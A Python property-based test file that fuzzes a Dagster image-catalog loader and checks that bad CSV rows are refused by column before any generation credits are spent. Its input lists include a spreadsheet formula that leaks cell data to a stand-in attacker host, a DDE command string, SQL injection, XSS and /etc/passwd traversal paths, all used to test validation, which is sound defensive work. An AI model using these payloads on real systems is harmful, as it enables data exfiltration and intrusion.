"""Refuse bad input before spending: generated catalogs of good and bad rows, parsed and run.

The parse-only property runs many examples (it is cheap); the end-to-end property runs each
example through Dagster against the emulator, so it keeps to a few.
"""

from __future__ import annotations

import csv
import tempfile
import unicodedata
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import dagster as dg
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from flokan_dagster import FlokanClient, FlokanResource
from flokan_dagster.assets import SKU_PARTITIONS, build_flokan_image_asset
from flokan_dagster.catalog import CatalogMapping, RowProblem, load_catalog, normalize_sku, parse_rows
from flokan_dagster.ledger import CreditLedger
from flokan_dagster.resource import FlokanLedgerResource, ImageStoreResource
from flokan_dagster.runs import materialize_skus
from tests.support import Admin, png_bytes

STYLE = "11111111-1111-4111-8111-111111111111"
COLUMNS = ["sku", "prompt", "tier", "provider", "style", "photo"]
MAPPING = CatalogMapping(
    prompt_column="prompt", tier_column="tier", provider_column="provider", style_column="style",
    source_column="photo",
)  # fmt: skip
SAFETY_WORDS = ("forbidden", "gore", "violence")  # the emulator's default safety filter

# Text a spreadsheet would run as a formula, or that breaks naive CSV and partition handling.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3",
    "=1+1", "\t=1", "a,b|c[d]e", '"quoted", with, commas', "line\nbreak", "semi;colon;separated",
    "tab\tseparated", "{title}", "%s %d", "' OR 1=1 --", "<script>alert(1)</script>", "Robert'); DROP TABLE attempts;--",
]  # fmt: skip
BAD_SKUS = [
    "A...B", "...", "A,B", "A|B", "A[1]", "B]", "=SUM(1)", "+1", "-1", "@cmd", " =lead", "A\x00B", "A\nB", "A\tB",
    "A\x07B", "\u200bA", "A\u2028B", "", "   ", "X" * 201,
]  # fmt: skip

printable = st.characters(blacklist_categories=("Cs", "Cc"))
anything = st.characters(blacklist_categories=("Cs",))


def _safe(text: str) -> bool:
    return not any(word in text.lower() for word in SAFETY_WORDS)


# ---------------------------------------------------------------- parse only, many examples

cells = st.one_of(
    st.none(),
    st.text(anything, max_size=30),
    st.sampled_from(INJECTIONS + BAD_SKUS),
    st.integers(-10, 10_000),
)
sources = st.one_of(
    cells,
    st.sampled_from(["real.png", "fake.png", "gif.png", "text.txt", "png.jpg", "missing.png", "../../etc/passwd",
                     "/etc/passwd", "/", ".", "a\x00b.png", "x" * 5000, "http://example.com/a.png",
                     "ftp://example.com/a.png", "file:///etc/passwd", "javascript:alert(1)", "https://",
                     "https:///no-host.png", "https://exa mple.com/a.png", "HTTPS://CDN.EXAMPLE.COM/A.PNG"]),  # fmt: skip
    st.builds(lambda n: "https://cdn.example.com/" + "a" * n, st.integers(1970, 2100)),
)
good_prompts = st.text(printable, min_size=1, max_size=20).filter(str.strip)


def mostly(good: st.SearchStrategy[Any], bad: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Good values three times in four, so that rows often get as far as their later columns."""
    return st.one_of(good, good, good, bad)


rows_strategy = st.lists(
    st.fixed_dictionaries(
        {
            "sku": mostly(st.text(printable, min_size=1, max_size=8), st.one_of(cells, st.sampled_from(["A", " A ", "Cafe\u0301", "Caf\u00e9"]))),
            "prompt": mostly(good_prompts, st.one_of(cells, st.builds(lambda n: "p" * n, st.integers(9_995, 10_005)))),
            "tier": mostly(st.sampled_from([None, "pro", " pro "]), st.sampled_from(["standard", "creative", "ultra", ""])),
            "provider": mostly(st.sampled_from([None, "platform", "fal", "kie"]), st.sampled_from(["openai", "google", "dalle"])),
            "style": mostly(st.sampled_from([None, STYLE, STYLE.upper()]), st.text(max_size=10)),
            "photo": sources,
        }
    ),
    max_size=12,
)


@pytest.fixture(scope="module")
def photo_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("photos")
    (root / "real.png").write_bytes(png_bytes())
    (root / "fake.png").write_bytes(b"not an image at all")
    (root / "gif.png").write_bytes(b"GIF89a" + b"\0" * 32)
    (root / "text.txt").write_text("hello", encoding="utf-8")
    (root / "png.jpg").write_bytes(png_bytes((1, 2, 3)))
    return root


TEMPLATE = MAPPING.model_copy(update={"prompt_column": None, "prompt_template": "Photo of {prompt!r:>5} by {tier}"})


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=rows_strategy, template=st.booleans())
def test_every_row_is_either_valid_or_refused_by_column_never_an_exception(
    rows: list[dict[str, Any]], template: bool, photo_dir: Path
) -> None:
    mapping = (TEMPLATE if template else MAPPING).model_copy(update={"base_dir": str(photo_dir)})
    catalog = parse_rows(rows, mapping)  # must not raise, whatever the rows hold

    keys: dict[int, str | None] = {}
    for number, row in enumerate(rows, start=1):
        try:
            keys[number] = normalize_sku(row.get("sku"))
        except ValueError:
            keys[number] = None
    counts: dict[str, int] = {}
    for key in keys.values():
        if key is not None:
            counts[key] = counts.get(key, 0) + 1

    unkeyed_rows = {p.row_number for p in catalog.unkeyed}
    assert unkeyed_rows == {n for n, k in keys.items() if k is None}
    assert not catalog.specs.keys() & catalog.problems.keys()
    assert catalog.specs.keys() | catalog.problems.keys() == {k for k in keys.values() if k is not None}
    for number, key in keys.items():
        if key is None:
            continue
        if counts[key] > 1:
            assert key in catalog.problems and "duplicate SKU" in catalog.problems[key].rule
        elif key in catalog.specs:
            spec = catalog.specs[key]
            assert spec.row_number == number and spec.prompt.strip() and len(spec.prompt) <= 10_000
            if spec.source is not None and spec.source.kind == "url":
                assert spec.source.value.lower().startswith("https://") and len(spec.source.value) <= 2000
        else:
            assert catalog.problems[key].row_number == number
    for problem in [*catalog.problems.values(), *catalog.unkeyed]:
        _assert_names_sku_column_rule(problem)


@pytest.mark.parametrize("template", ["{0}", "{}", "{title.upper}", "{title[0]}", "{title:d}", "{title!x}", "{title:.2f}"])
def test_a_template_that_cannot_format_text_cells_is_refused_up_front(template: str) -> None:
    with pytest.raises(ValueError, match="prompt_template"):
        CatalogMapping(prompt_template=template)


def _assert_names_sku_column_rule(problem: RowProblem) -> None:
    assert problem.column in [*COLUMNS, "prompt_template"], problem
    assert problem.rule.strip(), problem
    assert repr(problem.sku) in problem.message and repr(problem.column) in problem.message
    assert problem.rule in problem.message


# ---------------------------------------------------------------- end to end, a few examples


@dataclass(frozen=True)
class Row:
    """One generated catalog row and what must become of it."""

    cells: dict[str, str]
    column: str | None = None  # None: valid; "sku" with key None: not even a partition key
    words: str = ""  # a fragment the refusal's rule must contain

    @property
    def key(self) -> str | None:
        try:
            return normalize_sku(self.cells["sku"])
        except ValueError:
            return None


suffixes = st.text(st.characters(whitelist_categories=("Lu", "Ll", "Lo", "Nd")), max_size=6).map(
    lambda s: unicodedata.normalize("NFC", s)
)
prompts = st.one_of(st.text(printable, min_size=1, max_size=40).filter(lambda t: t.strip()), st.sampled_from(INJECTIONS))
valid_sources = st.sampled_from(["", "", "real.png", "png.txt", "https://cdn.example.com/photos/item.jpg"])


@st.composite
def catalogs(draw: st.DrawFn) -> list[Row]:
    """A few valid rows (unicode SKUs, injection-laden prompts) mixed with every kind of bad row."""
    rows: list[Row] = []
    for i in range(draw(st.integers(1, 3))):
        prompt = draw(prompts.filter(_safe))
        sku = f"V{i}-{draw(suffixes)}"
        rows.append(Row({"sku": sku, "prompt": f"valid {i}: {prompt}", "tier": draw(st.sampled_from(["", "standard", "creative"])),
                         "photo": draw(valid_sources)}))  # fmt: skip
    # Every kind of bad row in every example (they cost nothing); hypothesis varies their values.
    bad_kinds = sorted(BAD_ROWS) + draw(st.lists(st.sampled_from(sorted(BAD_ROWS)), max_size=3))
    for j, kind in enumerate(bad_kinds):
        column, words, cells = BAD_ROWS[kind](draw, f"B{j}-{draw(suffixes)}")
        rows.append(Row({"sku": f"B{j}", "prompt": f"bad {j}", **cells}, column, words))
    if draw(st.booleans()):  # a duplicate of a valid SKU, written differently: both rows are refused
        first = rows[0]
        rows.append(Row({**first.cells, "sku": f"  {first.cells['sku']} ", "prompt": "dup"}, "sku", "duplicate SKU"))
    return draw(st.permutations(rows))


def _bad(column: str, words: str, **cells: Any) -> Any:
    return lambda draw, sku: (column, words, {"sku": sku, **{k: v(draw) if callable(v) else v for k, v in cells.items()}})


BAD_ROWS = {
    "empty prompt": _bad("prompt", "empty", prompt=lambda d: d(st.sampled_from(["", " ", "\t \t"]))),
    "oversized prompt": _bad("prompt", "at most 10000", prompt=lambda d: "x" * d(st.integers(10_001, 12_000))),
    "http url": _bad("photo", "https", photo=lambda d: d(st.sampled_from(["http://cdn.example.com/a.png",
                                                                         "ftp://cdn.example.com/a.png"]))),  # fmt: skip
    "oversized url": _bad("photo", "2000", photo=lambda d: "https://cdn.example.com/" + "a" * d(st.integers(1980, 2500))),
    "fake image bytes": _bad("photo", "not a JPEG, PNG, WebP or GIF", photo="fake.png"),
    "wrong mime type": _bad("photo", "content is image/gif", photo="gif.png"),
    "misnamed png": _bad("photo", "content is image/png", photo="png.jpg"),
    "missing file": _bad("photo", "cannot read", photo="nope/missing.png"),
    "bad tier": _bad("tier", "pro, standard, creative", tier="ultra"),
    "byok matrix": _bad("provider", "allows model_tier", tier="creative", provider="google"),
    "bad style": _bad("style", "UUID", style=lambda d: d(st.sampled_from(["not-a-uuid", "=1+1", "1234"]))),
    "malformed sku": lambda draw, sku: ("sku", "", {"sku": _malformed_sku(draw(st.sampled_from(BAD_SKUS)), sku, draw(st.booleans()))}),
}


def _malformed_sku(bad: str, sku: str, prefix: bool) -> str:
    if not bad.strip():
        return bad  # empty or blank: refused as it is
    return bad + sku if prefix else bad


def write_catalog(path: Path, rows: list[Row]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerows([{c: row.cells.get(c, "") for c in COLUMNS} for row in rows])
    return path


@settings(max_examples=6, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture, HealthCheck.data_too_large])  # fmt: skip
@given(rows=catalogs())
def test_bad_rows_fail_by_name_and_never_reach_process_while_valid_rows_are_made(rows: list[Row], admin: Admin) -> None:
    workspace = admin.workspace()
    with tempfile.TemporaryDirectory() as directory:
        tmp = Path(directory)
        (tmp / "real.png").write_bytes(png_bytes())
        (tmp / "png.txt").write_bytes(png_bytes((5, 5, 200)))
        (tmp / "fake.png").write_bytes(b"\x00\x01 definitely not an image")
        (tmp / "gif.png").write_bytes(b"GIF89a" + b"\0" * 32)
        (tmp / "png.jpg").write_bytes(png_bytes((1, 2, 3)))
        catalog_file = write_catalog(tmp / "catalog.csv", rows)
        catalog = load_catalog(catalog_file, MAPPING)

        duplicated = {row.key for row in rows if row.column == "sku" and row.key is not None}
        valid = [row for row in rows if row.column is None and row.key not in duplicated]
        refused = [row for row in rows if row.column is not None and row.key is not None]
        unkeyed = [row for row in rows if row.key is None]
        assert sorted(catalog.specs) == sorted(row.key for row in valid)  # type: ignore[misc]
        assert len(catalog.unkeyed) == len(unkeyed)
        for problem in catalog.unkeyed:  # never a partition, so never run; refused by name
            assert problem.column == "sku" and problem.rule and repr(problem.sku) in problem.message

        database = str(tmp / "ledger.duckdb")
        asset = build_flokan_image_asset("hero_images", catalog=catalog_file, mapping=MAPPING, settle_timeout_s=5, settle_poll_s=0.2)
        defs = dg.Definitions(
            assets=[asset],
            resources={
                "flokan": FlokanResource(api_key=workspace.api_key, base_url=admin.base_url, backoff_base_s=0.01),
                "flokan_ledger": FlokanLedgerResource(database=database),
                "flokan_images": ImageStoreResource(directory=str(tmp / "images")),
            },
        )
        instance = dg.DagsterInstance.ephemeral()
        instance.add_dynamic_partitions(SKU_PARTITIONS.name, catalog.partition_keys)  # as the catalog sensor does
        [result] = materialize_skus(defs, instance, ["hero_images"], catalog.partition_keys,
                                    partitions_name=SKU_PARTITIONS.name, batch_size=100)  # fmt: skip

        materialized = {r.partition_key for r in instance.fetch_materializations(dg.AssetKey("hero_images"), limit=100).records}
        assert materialized == {row.key for row in valid}
        assert result.success == (not refused)
        if refused:
            failure = next(e for e in result.all_events if e.event_type == dg.DagsterEventType.STEP_FAILURE)
            description = failure.step_failure_data.user_failure_data.description  # type: ignore[union-attr]
            lines = {line.split(": ", 1)[0][2:]: line for line in description.splitlines() if line.startswith("- ")}
            for row in refused:
                line = lines[row.key]  # type: ignore[index]
                assert repr(row.key) in line and f"column {row.column!r}" in line and row.words in line, line

        # Nothing was sent for a refused row: the workspace's jobs are exactly the valid rows' prompts.
        with FlokanClient(api_key=workspace.api_key, base_url=admin.base_url) as client:
            jobs = list(client.iter_jobs())
        assert sorted(job.prompt or "" for job in jobs) == sorted(row.cells["prompt"].strip() for row in valid)
        assert workspace.info()["credits_deducted"] == sum(30 if row.cells.get("tier") == "creative" else 20 for row in valid)
        ledger = CreditLedger(database)
        records = ledger.attempts_for(asset="hero_images")
        assert {r.sku for r in records if r.status == "rejected"} == {row.key for row in refused}
        assert all((r.credits_consumed or 0) == 0 and r.job_id is None for r in records if r.status == "rejected")
